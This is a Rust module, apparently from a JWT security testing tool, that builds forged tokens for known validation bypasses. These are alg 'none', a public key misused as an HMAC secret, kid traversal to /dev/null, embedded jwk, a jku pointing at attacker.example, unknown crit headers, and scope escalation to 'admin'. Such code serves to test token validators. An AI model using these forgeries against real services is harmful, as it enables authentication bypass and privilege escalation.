//! Making the token of an attack, with no more than an attacker has: the token, the issuer's public key, and
//! a key of one's own.

use serde_json::{Map, Value, json};

use super::{
    Attack, Recipe,
    diff::{Change, diff},
};
use crate::token::{
    Algorithm, Decoded, Jwk, SignatureError, Signer, base64url,
    decode::{Form, PartKind, decode},
    hmac::HmacSigner,
    keys, tamper,
};

/// Where the attacker's keys are said to be.
pub const JKU: &str = "https://attacker.example/jwks.json";
/// A file that exists on most servers and is empty.
pub const EMPTY_FILE: &str = "../../dev/null";
/// An extension that is defined nowhere: RFC 7515 appendix E.
pub const UNKNOWN_EXTENSION: &str = "http://example.invalid/UNDEFINED";

/// What an attacker has at hand.
#[derive(Clone, Copy, Default)]
pub struct Materials<'a> {
    /// The claim to change on the way; without one only [`Attack::PayloadEdited`] changes a claim, the one
    /// of [`Edit::tempting`].
    pub edit: Option<&'a Edit>,
    /// The public key that the token's `kid` names, out of the issuer's set.
    pub issuer_key: Option<&'a Jwk>,
    /// A key of the attacker's own, of the token's algorithm.
    pub own_key: Option<&'a dyn Signer>,
}

/// One claim and what it is to be.
#[derive(Debug, Clone, PartialEq)]
pub struct Edit {
    /// Its name.
    pub claim: String,
    /// Its new value.
    pub value: Value,
}

/// A token that an attacker would send.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Forged {
    /// The token.
    pub token: String,
    /// What is different from the one it was made of.
    pub changes: Vec<Change>,
    /// What the HMAC was made with, if one was made.
    pub secret: Option<HmacSecret>,
}

/// A secret that is none.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum HmacSecret {
    /// The issuer's public key, as the text of a PEM file.
    PublicKeyPem(String),
    /// No bytes at all.
    Empty,
}

/// Why a token could not be forged.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ForgeError {
    /// Header and claims must be readable to be changed.
    #[error("only a signed token whose header and payload can be read can be changed")]
    Unreadable,
    /// Nothing is forged here: the token comes from elsewhere.
    #[error("this attack needs a token as it was issued")]
    NothingToForge(Recipe),
    /// Without the issuer's public key it cannot be misused.
    #[error("the issuer's public key is needed, of type RSA, EC or OKP")]
    NoIssuerKey,
    /// Without a key of one's own nothing can be signed.
    #[error("a key of the attacker's own is needed")]
    NoOwnKey,
    /// The cryptography refused.
    #[error(transparent)]
    Signature(#[from] SignatureError),
}

impl Edit {
    /// What would be worth changing: more scope for an access token, another subject for an ID token.
    pub fn tempting(token: &Decoded) -> Self {
        let scope =
            token.unverified_claims().and_then(|claims| Some(claims.get("scope")?.as_str()?.to_owned()));
        match scope {
            Some(scope) => Self { claim: "scope".into(), value: format!("{scope} admin").into() },
            None => Self { claim: "sub".into(), value: "somebody-else".into() },
        }
    }
}

impl Attack {
    /// Makes the token of this attack out of `token`.
    ///
    /// # Errors
    /// [`ForgeError`] if `token` cannot be read, a material is missing, or nothing is forged in this attack
    /// ([`Attack::recipe`]).
    pub async fn apply(self, token: &Decoded, materials: &Materials<'_>) -> Result<Forged, ForgeError> {
        let tempting = Edit::tempting(token);
        let edit = materials.edit.or_else(|| (self == Self::PayloadEdited).then_some(&tempting));
        let mut draft = Draft::of(token, edit).ok_or(ForgeError::Unreadable)?;
        let own_key = || materials.own_key.ok_or(ForgeError::NoOwnKey);
        let mut secret = None;
        let forged = match self {
            Self::PayloadEdited => format!("{}.{}", draft.input(), draft.signature),
            Self::SignatureEmptied => format!("{}.", draft.input()),
            Self::SignatureDropped => draft.input(),
            Self::AlgNone(spelling) => {
                draft.say("alg", spelling.alg().into());
                format!("{}.", draft.input())
            }
            Self::PublicKeyAsSecret => {
                let pem = materials.issuer_key.and_then(keys::to_pem).ok_or(ForgeError::NoIssuerKey)?;
                draft.say("alg", Algorithm::HS256.name().into());
                let signed = draft.signed(&HmacSigner::new(pem.as_bytes())).await?;
                secret = Some(HmacSecret::PublicKeyPem(pem));
                signed
            }
            Self::KidTraversal => {
                draft.say("alg", Algorithm::HS256.name().into());
                draft.say("kid", EMPTY_FILE.into());
                secret = Some(HmacSecret::Empty);
                draft.signed(&HmacSigner::new(&[])).await?
            }
            Self::ForeignKey => draft.signed(own_key()?).await?,
            Self::EmbeddedJwk => {
                let key = own_key()?;
                draft.say("jwk", json!(key.public_key()));
                draft.signed(key).await?
            }
            Self::ForeignJku => {
                let key = own_key()?;
                draft.say("kid", json!(key.public_key().kid));
                draft.say("jku", JKU.into());
                draft.signed(key).await?
            }
            Self::UnknownCrit => {
                draft.say("crit", json!([UNKNOWN_EXTENSION]));
                draft.say(UNKNOWN_EXTENSION, true.into());
                draft.signed(own_key()?).await?
            }
            Self::Expired
            | Self::OtherAudience
            | Self::OtherIssuer
            | Self::NonceReplayed
            | Self::IdTokenAsAccessToken
            | Self::AccessTokenAsIdToken => return Err(ForgeError::NothingToForge(self.recipe())),
        };
        let changes = diff(token, &decode(&forged));
        Ok(Forged { token: forged, changes, secret })
    }
}

/// A token in the making. What is not changed stays as it stands, byte by byte.
struct Draft {
    header: Map<String, Value>,
    header_text: String,
    payload: String,
    signature: String,
}

impl Draft {
    fn of(token: &Decoded, edit: Option<&Edit>) -> Option<Self> {
        if token.form != Form::Jws {
            return None;
        }
        // Without claims it is no JWT, and no attack on one would say anything.
        token.unverified_claims()?;
        let payload = match edit {
            Some(edit) => tamper::payload_with(token, &edit.claim, edit.value.clone())?,
            None => tamper::text(token, PartKind::Payload)?.to_owned(),
        };
        Some(Self {
            header: token.header()?.clone(),
            header_text: tamper::text(token, PartKind::Header)?.to_owned(),
            payload,
            signature: tamper::text(token, PartKind::Signature).unwrap_or_default().to_owned(),
        })
    }

    fn say(&mut self, name: &str, value: Value) {
        self.header.insert(name.into(), value);
        self.header_text = base64url::encode(Value::Object(self.header.clone()).to_string());
    }

    fn input(&self) -> String {
        format!("{}.{}", self.header_text, self.payload)
    }

    async fn signed(&self, signer: &dyn Signer) -> Result<String, SignatureError> {
        let input = self.input();
        let signature = signer.sign(input.as_bytes()).await?;
        Ok(format!("{input}.{}", base64url::encode(signature)))
    }
}
